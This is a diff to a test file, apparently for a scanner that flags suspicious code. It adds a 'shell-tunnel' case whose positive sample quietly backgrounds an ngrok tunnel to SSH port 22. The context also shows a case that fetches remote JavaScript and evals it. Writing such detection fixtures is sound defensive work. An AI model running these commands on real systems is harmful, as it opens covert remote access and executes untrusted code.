@@ -181,6 +181,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: 'const c = new net.Socket();\nc.connect(80, "h", () => c.write("GET /"));',
     path: "x.js",
   },
+  "shell-tunnel": {
+    hit: "nohup ngrok tcp 22 --authtoken 2bQx7Lr0kP9mZ3vW8yT1 >/dev/null 2>&1 &",
+    miss: "ngrok http 3000",
+    path: "x.sh",
+  },
   "remote-code-exec": {
     hit: 'const res = await fetch("https://x.example/c.js");\neval(await res.text());',
     miss: 'const res = await fetch("https://x.example/c.json");\nconsole.log(await res.json());',
